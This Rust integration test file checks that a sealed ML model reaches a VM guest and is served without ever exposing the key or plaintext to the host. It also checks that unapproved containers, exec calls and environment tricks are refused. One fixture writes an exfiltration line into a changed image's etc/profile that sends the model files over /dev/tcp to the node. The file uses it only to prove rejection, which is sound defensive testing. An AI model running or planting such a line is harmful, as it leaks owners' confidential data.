//! Model delivery end to end, with real containerd, a real VM, a real HTTP model store and
//! a real `veil-kbs`: the agent fetches the sealed model, attests (INSECURE sample attester:
//! this machine has no SEV), gets the key, decrypts and verifies into a guest tmpfs, and
//! only then starts the serving container, which answers an inference request. The host
//! never holds the plaintext or the key.

use std::time::Duration;

use veil_integration::oci::ExtraFile;
use veil_integration::owner::{with_annotation, ModelOwner, KEY_RESOURCE};
use veil_integration::{
    Containerd, Options, MODEL_SERVER_ARGS, MODEL_SERVER_IMAGE, READERS_ANNOTATION,
};
use veil_model_server::Model;

const INPUT: &str = "5.1,3.5,1.4,0.2";

#[test]
fn a_sealed_model_is_delivered_into_guest_ram_and_served_and_the_host_sees_none_of_it() {
    // Padded past a few huge pages, to see the model volume's.
    let owner = ModelOwner::start(7, 6).expect("model owner");
    let containerd = Containerd::start().expect("start containerd");
    containerd
        .import_model_server()
        .expect("import the serving image");
    let id = "served";

    let started = containerd
        .run_model_server(id, &owner.annotations("model"))
        .expect("ctr run");
    assert_eq!(
        started.code,
        0,
        "ctr run failed: {} {}\ncontainerd log: {}",
        started.stdout,
        started.stderr,
        containerd.log()
    );

    let answer = containerd
        .model_server_answer(id, INPUT)
        .unwrap_or_else(|e| panic!("{e:#}"));
    let served: serde_json::Value = serde_json::from_str(answer.trim()).expect("answer JSON");
    let inputs: Vec<f32> = INPUT.split(',').map(|x| x.parse().expect("f32")).collect();
    let expected = Model::load(&owner.model.path)
        .expect("owner's model")
        .predict(&inputs)
        .expect("predict");
    assert_eq!(served["label"], expected.label.as_str(), "{served}");

    // Its init mounted only what the agent checked: the shared rootfs bound onto a guest
    // directory and every bind source pinned, so the share cannot swap them afterwards.
    let console = containerd.console_log(id);
    let pinned = console
        .lines()
        .find(|line| line.contains("mount sources pinned to what the checks saw"))
        .unwrap_or_else(|| panic!("the server's mount sources were not pinned:\n{console}"));
    assert!(
        pinned.contains(&format!("/run/veil/roots/{id}"))
            && pinned.contains("shared_rootfs_pinned=true"),
        "{pinned}"
    );

    // The node cannot exec into the server: the owner's declaration does not allow it.
    let peek = containerd
        .exec(id, "peek", &["cat", "/model/model.safetensors"])
        .expect("ctr task exec");
    assert_ne!(peek.code, 0, "exec into the server ran: {}", peek.stdout);
    assert!(
        peek.stderr.contains("refused")
            && peek.stderr.contains("volume model")
            && peek.stderr.contains("io.veil.model.exec: allow"),
        "{}",
        peek.stderr
    );
    assert!(peek.stdout.is_empty(), "{}", peek.stdout);
    // Nor add a privileged container to its VM.
    let privileged = containerd
        .run_in_pod_with(id, "privileged", &["--privileged"], &["true"])
        .expect("ctr run");
    assert_ne!(privileged.code, 0, "a privileged container joined the VM");
    assert!(
        privileged
            .stderr
            .contains("cannot run in a VM that receives a sealed model")
            && privileged.stderr.contains("CAP_SYS_ADMIN"),
        "{}",
        privileged.stderr
    );

    // Nor show the volume through an overlay whose lower directory it is.
    let overlay_of_volume =
        "type=overlay,src=overlay,dst=/peek,options=lowerdir=/run/veil/volumes/model";
    let overlay = containerd
        .run_in_pod_with(
            id,
            "overlay",
            &["--mount", overlay_of_volume],
            &["cat", "/peek/model.safetensors"],
        )
        .expect("ctr run");
    assert_ne!(overlay.code, 0, "an overlay of the volume ran");
    assert!(
        overlay.stderr.contains("is of type overlay") && overlay.stdout.is_empty(),
        "{}",
        overlay.stderr
    );

    // The model's file, sized before it was written, sits in the volume's huge pages (the
    // guest's counter, read from a container without the model).
    let meminfo = containerd
        .run_in_pod(id, "meminfo", &["grep", "ShmemHugePages", "/proc/meminfo"])
        .expect("ctr run");
    let huge_kib: u64 = meminfo
        .stdout
        .lines()
        .find_map(|line| line.strip_prefix("ShmemHugePages:"))
        .and_then(|rest| rest.trim().trim_end_matches("kB").trim().parse().ok())
        .unwrap_or_else(|| panic!("no ShmemHugePages in the guest: {meminfo:?}"));
    assert!(huge_kib >= 2048, "{}", meminfo.stdout);

    let during = owner.secrets_on_host(&containerd);
    assert!(
        during.is_empty(),
        "secrets on the host while serving: {during:?}"
    );
    // The scan covered the server's own output, which the node keeps as kubelet keeps a
    // container's log.
    let server_log = std::fs::read_to_string(containerd.server_log_path(id)).unwrap_or_default();
    assert!(
        server_log.contains("model loaded"),
        "the server's log on the host: {server_log:?}"
    );
    let host_volume = containerd.dir().join(format!("pods/{id}/volumes/model"));
    assert_eq!(
        std::fs::read_dir(&host_volume)
            .expect("host volume")
            .count(),
        0
    );

    containerd.remove(id);
    let after = owner.secrets_on_host(&containerd);
    assert!(
        after.is_empty(),
        "secrets on the host after the run: {after:?}"
    );
    assert!(
        containerd.qemu_processes().is_empty(),
        "a VM outlived its pod"
    );
}

/// A health probe, as a pod's exec probe would run it in the server.
const HEALTH_PROBE: [&str; 5] = [
    "veil-model-server",
    "query",
    "--url",
    "http://127.0.0.1:8080",
    "--health",
];

/// The serving image with one file more, as a node that changed the approved image would
/// run it.
const CHANGED_IMAGE: &str = "veil.test/model-server:changed";

/// The reader's rootfs reaches the guest as the node's erofs image, verified in place
/// through dm-verity (the default).
#[test]
fn only_the_containers_the_owner_approved_may_read_the_model() {
    only_approved_readers_over(None, ReaderRootfs::Image);
}

/// The digest the guest takes of a copy over 9p is the one the owner took of the image too
/// (modes as the node's files have them: `security_model=none`).
#[test]
fn approved_readers_are_verified_over_9p_too() {
    only_approved_readers_over(Some("virtio-9p"), ReaderRootfs::Copy);
}

/// How the test expects the reader's rootfs to reach the guest.
#[derive(Clone, Copy, PartialEq, Eq)]
enum ReaderRootfs {
    Image,
    Copy,
}

/// Serves a model whose owner approves one reader, the serving image with its command,
/// sharing the containers' files by `shared_fs` (the default where `None`) and giving the
/// reader's rootfs as `how`; another command, or the command from a changed image, may not
/// mount the model's volume.
fn only_approved_readers_over(shared_fs: Option<&str>, how: ReaderRootfs) {
    let owner = ModelOwner::start(31, 0).expect("model owner");
    let containerd = Containerd::start_with(&Options {
        shared_fs: shared_fs.map(str::to_string),
        reader_rootfs: Some(
            if how == ReaderRootfs::Image {
                "image"
            } else {
                "copy"
            }
            .into(),
        ),
        ..Options::default()
    })
    .expect("start containerd");
    containerd
        .import_model_server()
        .expect("import the serving image");
    let changed_file = ExtraFile {
        path: "etc/profile".into(),
        mode: 0o644,
        data: b"cat /model/* > /dev/tcp/node/80\n".to_vec(),
    };
    containerd
        .import_model_server_as(CHANGED_IMAGE, vec![changed_file])
        .expect("import the changed image");
    // The owner's approval: the serving image's rootfs digest with its command.
    let approved = containerd
        .image_rootfs_digest(MODEL_SERVER_IMAGE)
        .expect("digest the serving image");
    let changed = containerd
        .image_rootfs_digest(CHANGED_IMAGE)
        .expect("digest the changed image");
    assert_ne!(approved, changed);
    // The owner takes the same digest from the image archive they publish, without a node.
    let archive = containerd.dir().join("published.tar");
    veil_integration::write_model_server_archive(&archive, MODEL_SERVER_IMAGE, Vec::new())
        .expect("write the serving image");
    assert_eq!(
        veil_integration::owner_image_digest(&archive).expect("veil rootfs digest --oci"),
        approved
    );
    // With the environment `ctr run --net-host` gives it (the image's PATH and a HOSTNAME),
    // in the image's working directory.
    let readers = serde_json::json!([{
        "rootfs": approved,
        "args": MODEL_SERVER_ARGS,
        "env": ["PATH=/bin", "HOSTNAME"],
        "cwd": "/",
    }]);
    let annotations = with_annotation(
        &owner.annotations("model"),
        READERS_ANNOTATION,
        &readers.to_string(),
    );
    // And one command the node may exec into the server (a health probe).
    let probe = serde_json::json!([HEALTH_PROBE]);
    let annotations = with_annotation(
        &annotations,
        "io.veil.model.exec-commands",
        &probe.to_string(),
    );
    let id = "approved";

    let started = containerd
        .run_model_server(id, &annotations)
        .expect("ctr run");
    assert_eq!(
        started.code,
        0,
        "the approved server did not start: {}\nconsole: {}",
        started.stderr,
        containerd.console_log(id)
    );
    containerd
        .model_server_answer(id, INPUT)
        .unwrap_or_else(|e| panic!("{e:#}"));
    // It runs from the rootfs the agent verified (the node's image through dm-verity, or
    // a copy in guest memory), not from the node's share.
    let console = containerd.console_log(id);
    let verified = console
        .lines()
        .find(|line| line.contains("rootfs verified as one the model owner approved"))
        .unwrap_or_else(|| panic!("the server's rootfs was not verified:\n{console}"));
    assert!(
        verified.contains(&approved) && verified.contains("/run/veil/verified/approved"),
        "{verified}"
    );
    assert_eq!(
        verified.contains("from the node's image through dm-verity"),
        how == ReaderRootfs::Image,
        "{verified}\n{console}"
    );
    eprintln!("{verified}");
    assert!(
        console.lines().any(
            |line| line.contains("mount sources pinned to what the checks saw")
                && line.contains("/run/veil/verified/approved")
                && line.contains("shared_rootfs_pinned=false")
        ),
        "the verified reader's bind sources were not pinned:\n{console}"
    );

    // The listed probe may be exec'd into the server; nothing else.
    let probed = containerd
        .exec(id, "probe", &HEALTH_PROBE)
        .expect("ctr task exec");
    assert_eq!(
        probed.code, 0,
        "the listed probe was refused: {}",
        probed.stderr
    );
    let peek = containerd
        .exec(id, "peek", &["cat", "/model/model.safetensors"])
        .expect("ctr task exec");
    assert_ne!(peek.code, 0, "an unlisted exec ran: {}", peek.stdout);
    assert!(
        peek.stderr.contains("io.veil.model.exec-commands") && peek.stdout.is_empty(),
        "{}",
        peek.stderr
    );

    // The approved image with another command may not mount the model's volume.
    let reader = |name: &str, image: &str, flags: &[&str], args: &[&str], refusal: &[&str]| {
        let run = containerd
            .run_reader_in_pod(id, name, image, &annotations, flags, args)
            .expect("ctr run");
        assert_ne!(run.code, 0, "{name}: it read the model: {}", run.stdout);
        assert!(run.stdout.is_empty(), "{name}: {}", run.stdout);
        assert!(
            refusal.iter().all(|part| run.stderr.contains(part)),
            "{name}: {}",
            run.stderr
        );
    };
    let cat = ["cat", "/model/model.safetensors"];
    reader(
        "cat",
        MODEL_SERVER_IMAGE,
        &[],
        &cat,
        &["is not one the model owner approved for volume model"],
    );
    // Nor the approved image and command with a variable the owner's rules do not allow,
    let python_path = ["--env", "PYTHONPATH=/dev/shm"];
    reader(
        "pythonpath",
        MODEL_SERVER_IMAGE,
        &python_path,
        &MODEL_SERVER_ARGS,
        &["sets PYTHONPATH"],
    );
    // or from a directory the node binds (where an interpreter would find its code),
    let in_shm = ["--cwd", "/dev/shm"];
    reader(
        "shm",
        MODEL_SERVER_IMAGE,
        &in_shm,
        &MODEL_SERVER_ARGS,
        &["its working directory is /dev/shm"],
    );
    // or from a changed image.
    reader(
        "changed",
        CHANGED_IMAGE,
        &[],
        &MODEL_SERVER_ARGS,
        &[&changed, "did not approve"],
    );

    // The readers refused above that ran the approved image reused the server's image:
    // the node made one image of the snapshot for the pod.
    if how == ReaderRootfs::Image {
        let log = containerd.log();
        assert!(
            log.contains("rootfs image of the same snapshot reused"),
            "every reader of the same image got a new image:\n{}",
            log.lines()
                .filter(|l| l.contains("rootfs image"))
                .collect::<Vec<_>>()
                .join("\n")
        );
    }

    // The server still serves, and nothing secret reached the host.
    containerd
        .model_server_answer(id, INPUT)
        .unwrap_or_else(|e| panic!("{e:#}"));
    let leaked = owner.secrets_on_host(&containerd);
    assert!(leaked.is_empty(), "secrets on the host: {leaked:?}");
    containerd.remove(id);
    assert!(
        containerd.qemu_processes().is_empty(),
        "a VM outlived its pod"
    );
    if how == ReaderRootfs::Image {
        the_next_pod_of_the_image_reuses_its_rootfs_image(&containerd, &annotations);
    }
}

/// After the pod that made it ended, the node keeps the serving image's rootfs image, and
/// the next pod of that image links it instead of making its own; the guest verifies it
/// as before and the server serves.
fn the_next_pod_of_the_image_reuses_its_rootfs_image(
    containerd: &Containerd,
    annotations: &[(String, String)],
) {
    let states = |extra: &[&str]| {
        let listing = containerd.node_images(extra).expect("veil node images");
        let states: Vec<String> = listing["images"]
            .as_array()
            .expect("images")
            .iter()
            .map(|image| format!("{} {}", image["state"], image["users"]))
            .collect();
        (listing, states)
    };
    let (listing, ended) = states(&[]);
    assert!(
        !ended.is_empty() && ended.iter().all(|s| s == "\"unused\" 0"),
        "no unused rootfs image kept after its pod ended: {listing}"
    );
    let id = "next";
    let started = containerd
        .run_model_server(id, annotations)
        .expect("ctr run");
    assert_eq!(
        started.code,
        0,
        "the next server did not start: {}\nconsole: {}",
        started.stderr,
        containerd.console_log(id)
    );
    containerd
        .model_server_answer(id, INPUT)
        .unwrap_or_else(|e| panic!("{e:#}"));
    let log = containerd.log();
    let reused = log.lines().any(|line| {
        line.contains("rootfs image of the same snapshot reused from the node's cache")
            && line.contains(id)
    });
    assert!(
        reused,
        "the next pod made its own image:\n{}",
        log.lines()
            .filter(|l| l.contains("rootfs image"))
            .collect::<Vec<_>>()
            .join("\n")
    );
    assert!(
        containerd
            .console_log(id)
            .contains("from the node's image through dm-verity"),
        "the reused image was not verified in place"
    );
    let (listing, running) = states(&["--prune"]);
    assert!(
        running.contains(&"\"in use\" 1".to_string()),
        "the running server's image is not listed in use: {listing}"
    );
    containerd.remove(id);
    // The operator takes the idle node's memory back: every unused image goes at once.
    let (listing, pruned) = states(&["--prune", "--all"]);
    assert!(
        pruned.is_empty() && listing["pruned"]["unused"].as_u64() >= Some(1),
        "unused images left after --prune --all: {listing}"
    );
}

/// Runs the server with `annotations` and expects its start to fail with `expected` in
/// the error, leaving no VM behind.
fn expect_refused(
    containerd: &Containerd,
    id: &str,
    annotations: &[(String, String)],
    expected: &str,
) {
    let run = containerd
        .run_model_server(id, annotations)
        .expect("ctr run");
    containerd.remove(id);
    assert_ne!(run.code, 0, "{id}: the container started: {}", run.stdout);
    assert!(
        run.stderr.contains(expected),
        "{id}: expected {expected:?} in the error, got: {}",
        run.stderr
    );
    assert!(
        veil_integration::eventually(Duration::from_secs(30), || containerd
            .qemu_processes()
            .is_empty()),
        "{id}: a VM outlived its refused container"
    );
}

#[test]
fn each_refusal_fails_the_start_with_its_own_step() {
    let owner = ModelOwner::start(11, 0).expect("model owner");
    let containerd = Containerd::start().expect("start containerd");
    containerd
        .import_model_server()
        .expect("import the serving image");
    let good = owner.annotations("model");

    expect_refused(
        &containerd,
        "wrong-digest",
        &with_annotation(&good, "io.veil.model.sha256", &"0".repeat(64)),
        "step verify",
    );
    expect_refused(
        &containerd,
        "no-store",
        &with_annotation(
            &good,
            "io.veil.model.source",
            "http://127.0.0.1:9/model.sealed",
        ),
        "step fetch",
    );
    expect_refused(
        &containerd,
        "no-broker",
        &with_annotation(&good, "io.veil.model.kbs", "http://127.0.0.1:9"),
        "step attest",
    );
    expect_refused(
        &containerd,
        "wrong-aad",
        &with_annotation(&good, "io.veil.model.aad", "another-model"),
        "step decrypt",
    );

    let mut sealed = std::fs::read(owner.sealed_path()).expect("sealed");
    let middle = sealed.len() / 2;
    sealed[middle] ^= 1;
    std::fs::write(owner.sealed_path(), &sealed).expect("tamper");
    expect_refused(&containerd, "tampered", &good, "step decrypt");
    sealed[middle] ^= 1;
    std::fs::write(owner.sealed_path(), &sealed).expect("untamper");

    owner
        .kbs
        .set_policy(KEY_RESOURCE, "claims.tee == 'snp'")
        .expect("policy");
    expect_refused(&containerd, "policy", &good, "step attest");
}

/// The model volume, as the serving container `id` sees it: a read-only guest tmpfs in
/// huge pages, holding the model.
fn assert_read_only_huge_page_volume(containerd: &Containerd, id: &str) {
    let mounts = containerd
        .exec(
            id,
            "mounts",
            &[
                "sh",
                "-c",
                "grep ' /model ' /proc/mounts; ls /model; touch /model/x 2>&1; true",
            ],
        )
        .expect("exec");
    assert!(
        mounts
            .stdout
            .starts_with("veil-memory-volume /model tmpfs ro"),
        "the model volume must be a read-only guest tmpfs: {}",
        mounts.stdout
    );
    for expected in [
        "model.safetensors",
        "Read-only file system",
        "huge=within_size",
    ] {
        assert!(
            mounts.stdout.contains(expected),
            "{expected}: {}",
            mounts.stdout
        );
    }
}

#[test]
fn two_pods_with_different_models_see_only_their_own() {
    let first = ModelOwner::start(21, 0).expect("first owner");
    let second = ModelOwner::start(22, 0).expect("second owner");
    let containerd = Containerd::start().expect("start containerd");
    containerd
        .import_model_server()
        .expect("import the serving image");
    for (id, owner) in [("first", &first), ("second", &second)] {
        let started = containerd
            .run_model_server(id, &owner.annotations_allowing_exec("model"))
            .expect("ctr run");
        assert_eq!(started.code, 0, "{id}: {}", started.stderr);
    }
    for (id, owner, other) in [("first", &first, &second), ("second", &second, &first)] {
        let listing = containerd
            .exec(id, "sum", &["sh", "-c", "sha256sum /model/*; ls -a /model"])
            .expect("exec");
        assert!(
            listing.stdout.contains(&owner.model.sha256),
            "{id} must see its own model: exit {}, stdout {:?}, stderr {:?}\n{}",
            listing.code,
            listing.stdout,
            listing.stderr,
            containerd.log()
        );
        assert!(
            !listing.stdout.contains(&other.model.sha256),
            "{id} sees the other pod's model: {}",
            listing.stdout
        );
        let boot = containerd
            .exec(id, "boot", &["cat", "/proc/sys/kernel/random/boot_id"])
            .expect("exec");
        assert_eq!(boot.code, 0, "{}", boot.stderr);
        assert_read_only_huge_page_volume(&containerd, id);
    }
    let boots: Vec<String> = ["first", "second"]
        .iter()
        .map(|id| {
            containerd
                .exec(id, "boot2", &["cat", "/proc/sys/kernel/random/boot_id"])
                .expect("exec")
                .stdout
        })
        .collect();
    assert_ne!(boots[0], boots[1], "the two pods must run in two VMs");
    for id in ["first", "second"] {
        containerd.remove(id);
    }
    assert!(first.secrets_on_host(&containerd).is_empty());
    assert!(second.secrets_on_host(&containerd).is_empty());
}
